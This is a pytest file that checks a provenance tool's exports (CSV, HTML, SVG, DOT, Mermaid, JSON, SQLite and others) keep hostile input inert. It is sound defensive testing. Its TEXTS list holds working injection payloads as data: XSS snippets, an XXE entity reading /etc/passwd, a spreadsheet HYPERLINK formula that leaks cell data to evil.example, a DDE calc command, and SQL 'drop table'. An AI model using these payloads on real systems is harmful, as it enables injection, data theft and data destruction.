"""Hostile text in every field through every export: it stays text, read by the real parsers."""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import subprocess
from collections.abc import Callable
from html.parser import HTMLParser
from pathlib import Path
from xml.etree import ElementTree

import pytest

from provenance.cleaning import one_line
from provenance.exports import FORMATS, export
from tests import samples
from tests.export_stories import (
    ADDRESS,
    Story,
    read_csv,
    read_graphml,
    read_prov,
    rows_of,
    saying,
    stored,
)

# Each would break out of some format, or mislead who reads it. All hold words, so that no field is
# empty once it is cleaned.
TEXTS = {
    "markup": "<script>alert(1)</script><img src=x onerror=alert(1)> said",
    "attribute": 'said" onload="alert(1)" x=\'y\' autofocus',
    "entities": "&lt;b&gt; &#60;script&#62; &quot; &amp; said",
    "cdata": "said ]]> <![CDATA[ <!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>",
    "comment": "said --> <!-- ?> <?php /* */ // # ; -- x",
    "address": "javascript:alert(document.domain)//said",
    "data address": "data:text/html,<script>alert(1)</script>said",
    "control": "said\x00\x07\x1b[31mred\x1b[0m\x7f\x9b\ufffe",
    "direction": "said \u202egnp.exe\u202c \u2066isolated\u2069 \u200e\u061c\ufeff",
    "lines": "said\n\nforged line\r\nanother\u2028and\u2029more\x85end\ttab",
    "surrogate": "said \ud83d alone \udfff",
    "formula": '=HYPERLINK("http://evil.example/?"&A1;"said")',
    "formula after space": "\t\r @SUM(1+1)*cmd|' /C calc'!A0 said",
    "defused": "'=1+1 said",
    "dot": '"]; node [label="said", URL="javascript:alert(1)"]; a -> b; "\\',
    "dot escapes": "\\N \\G \\l said \\",
    "mermaid": '"] end; click n1 "javascript:alert(1)"; n9["said',
    "mermaid directive": "%%{init: {'securityLevel': 'loose'}}%% said :::x --- y",
    "prov-n": "said\") entity(x:y, [prov:type='z' %% xsd:string]) endDocument",
    "json": 'said"}], "ratings": [{"x": "\\u003c\\',
    "sql": "said'); drop table claims; --",
    "template": "{{7*7}} ${7*7} <%= 7*7 %> {% said %}",
    "markdown": "[said](javascript:alert(1)) ![x](http://evil.example) `code` **b** [red]bold[/red]",
    "long": "said " + "wörter " * 2_000,
    "tags": "said \U000e0041\U000e007f",
}
PLAIN = "Said in plain words"
SEEN_CONTROLS = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\u2028\u2029"
    "\ufeff\ufffe\ud800-\udfff\U000e0000-\U000e007f]"
)


class Tags(HTMLParser):
    """The tags, attributes and addresses of a page."""

    def __init__(self, source: str) -> None:
        super().__init__()
        self.shapes: set[tuple[str, str]] = set()
        self.addresses: set[str] = set()
        self.feed(source)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Note an element."""
        self.shapes |= {(tag, name) for name, _ in attrs} | {(tag, "")}
        self.addresses |= {value or "" for name, value in attrs if name in {"href", "src"}}

    def handle_comment(self, data: str) -> None:
        """Fail: the page has none of its own."""
        raise AssertionError(data)


def plain_story() -> Story:
    """Return the same story with words that mean no harm."""
    return saying(PLAIN)


def check_text(content: str, plain: str, _text: str) -> None:
    """Lines say who stands below whom: text must not add any."""
    assert len(content.splitlines()) == len(plain.splitlines())


def check_json(content: str, _plain: str, text: str) -> None:
    """The stored characters come back, and none of them acts on the way."""
    told = json.loads(content)
    assert {item["title"] for item in told["articles"]} == {text}
    assert {item["text"] for item in told["claims"]} == {text}
    assert "<" not in content


def check_json_lines(content: str, plain: str, text: str) -> None:
    """One record a line, whatever line breaks the text holds."""
    records = [json.loads(line) for line in content.splitlines()]
    assert [item["record"] for item in records] == [
        json.loads(line)["record"] for line in plain.splitlines()
    ]
    assert {item["title"] for item in records if item["record"] == "article"} == {text}
    assert "<" not in content


def check_lines_of_json(content: str, plain: str, _text: str) -> None:
    """As above."""
    assert len(list(map(json.loads, content.splitlines()))) == len(plain.splitlines())


def check_prov(content: str, plain: str, text: str) -> None:
    """The prov package finds the same records, and the text in them."""
    notation = "json" if content.startswith("{") else "provn"
    records, expected = (
        [str(type(item)) for item in read_prov(source, notation).get_records()]
        for source in (content, plain)
    )
    assert sorted(records) == sorted(expected)
    labels = {
        str(value)
        for item in read_prov(content, notation).get_records()
        for value in item.get_attribute("prov:label")
    }
    assert one_line(text) in labels


def check_graphml(content: str, _plain: str, text: str) -> None:
    """Networkx finds two articles, one outside source, and the text as it is."""
    graph = read_graphml(content)
    assert (len(graph.nodes), len(graph.edges)) == (3, 2)
    assert {told["outlet"] for _, told in graph.nodes(data=True)} == {one_line(text)}
    urls = [told["url"] for _, told in graph.nodes(data=True) if "url" in told]
    assert urls == [one_line(ADDRESS + text)]


def check_dot(content: str, plain: str, _text: str) -> None:
    """Outside its strings the document is the same, so that nothing was added to it."""

    def bare(source: str) -> list[str]:
        return re.sub(r'"(?:[^"\\]|\\.)*"', '""', source).splitlines()

    assert sorted(bare(content)) == sorted(bare(plain))
    assert re.findall(r'^[^"]*"[^"]*" \[.*, URL="(.{20})', content, re.M) in ([], [ADDRESS])
    if shutil.which("dot"):
        done = subprocess.run(
            ["dot", "-Tcanon"], check=False, input=content.encode(), capture_output=True
        )
        assert done.returncode == 0, done.stderr


def check_mermaid(content: str, plain: str, _text: str) -> None:
    """Every line is one of four shapes, and no directive stands anywhere."""
    label = r'"(?:[\w .,-]|#\d+;|<br/>)*"'
    shapes = re.compile(
        rf"flowchart LR|  %% [\w :.,+@%*/~-]*|  n\d+(?:\[{label}\]|\(\[{label}\]\))|"
        rf"  n\d+ -[-.] {label} (?:-->|\.-) n\d+"
    )
    assert [line for line in content.splitlines() if not shapes.fullmatch(line)] == []
    assert len(content.splitlines()) == len(plain.splitlines())
    assert "%%{" not in content
    # Mermaid draws nothing of more than 50,000 characters.
    assert max(len(line) for line in content.splitlines() if '"' in line) < 1_000


def check_svg(content: str, plain: str, _text: str) -> None:
    """No element and no attribute that the harmless drawing has not."""

    def shapes(source: str) -> set[tuple[str, str]]:
        root = ElementTree.fromstring(source)
        return {(item.tag, name) for item in root.iter() for name in ("", *item.attrib)}

    assert shapes(content) <= shapes(plain)
    assert not re.search(r"\b(href|onload|onclick)\s*=\s*\"", re.sub(">[^<]*<", "><", content))


def check_csv(content: str, plain: str, text: str) -> None:
    """As many rows and cells, and none of them a formula."""
    rows, expected = (list(csv.reader(io.StringIO(source))) for source in (content, plain))
    assert [len(row) for row in rows] == [len(row) for row in expected]
    assert not [cell for row in rows for cell in row if cell[:1] in set("=+-@\t\r＝＋－＠")]
    assert one_line(text) in {row["outlet"] for row in read_csv(content)}


def check_claimreview(content: str, _plain: str, _text: str) -> None:
    """It may be pasted into a page: nothing ends the script element, and nothing rates."""
    told = json.loads(content)["@graph"]
    assert [item["@type"] for item in told] == ["Dataset", "ClaimReview"]
    assert "<" not in content
    assert "reviewRating" not in json.dumps(told)
    assert [url[: len(ADDRESS)] for url in _values(told, "url")] == [ADDRESS]


def check_html(content: str, plain: str, _text: str) -> None:
    """No element and no attribute that the harmless page has not, and links into the page alone."""
    page, expected = Tags(content), Tags(plain)
    assert page.shapes <= expected.shapes | {("p", "lang"), ("p", "dir"), ("cite", "lang")}
    assert not [url for url in page.addresses if not url.startswith(("#", ADDRESS))]
    assert not [name for _, name in page.shapes if name.startswith("on")]


def _values(value: object, name: str) -> list[str]:
    """Return the texts under a name, at any depth."""
    if isinstance(value, dict):
        inner = [found for item in value.values() for found in _values(item, name)]
        return [value[name], *inner] if isinstance(value.get(name), str) else inner
    return (
        [found for item in value for found in _values(item, name)]
        if isinstance(value, list)
        else []
    )


CHECKS: dict[str, Callable[[str, str, str], None]] = {
    "text": check_text,
    "json": check_json,
    "jsonl": check_json_lines,
    "prov": check_prov,
    "provn": check_prov,
    "graphml": check_graphml,
    "dot": check_dot,
    "mermaid": check_mermaid,
    "svg": check_svg,
    "csv": check_csv,
    "csv-nodes": check_csv,
    "csv-edges": check_csv,
    "claimreview": check_claimreview,
    "decisions": check_lines_of_json,
    "html": check_html,
}


@pytest.mark.parametrize("text", TEXTS.values(), ids=TEXTS)
@pytest.mark.parametrize("name", FORMATS)
def test_hostile_text_is_inert(name: str, text: str) -> None:
    """Titles come from strangers; exports go to browsers, spreadsheets and other programs."""
    story = saying(text)

    content = export(*story, name, story.made)

    CHECKS[name](content, export(*plain_story(), name, story.made), text)
    assert not SEEN_CONTROLS.search(content)
    assert content.encode("utf-8")


@pytest.mark.parametrize("name", sorted(set(TEXTS) - {"surrogate"}))
def test_hostile_text_is_inert_in_sqlite(name: str, tmp_path: Path) -> None:
    """The file holds the articles as they were stored, and the views no more rows than there are.

    Half a surrogate pair never reaches a store: it is replaced when the article is read.
    """
    text = TEXTS[name]
    copy = stored(saying(text), tmp_path / "story.db")

    assert [row["title"] for row in rows_of(copy, "view_articles")] == [text, text]
    # SQLite's functions for JSON end a text at its first NUL.
    text = text.partition("\0")[0]
    assert [row["via"] for row in rows_of(copy, "view_links")] == [text, text]
    assert {row["note"] for row in rows_of(copy, "view_evidence")} == {text}
    assert [row["text"] for row in rows_of(copy, "view_claims")] == [text]
    assert [row["sentence"] for row in rows_of(copy, "view_appearances")] == [text, text]


def test_the_hostile_story_of_the_screens_is_inert_too() -> None:
    """It has other shapes: an article that cites itself in a circle, ids that begin with an at."""
    story = Story(samples.hostile_tree(), samples.hostile_claims())

    for name in FORMATS:
        assert not SEEN_CONTROLS.search(export(*story, name, story.made)), name
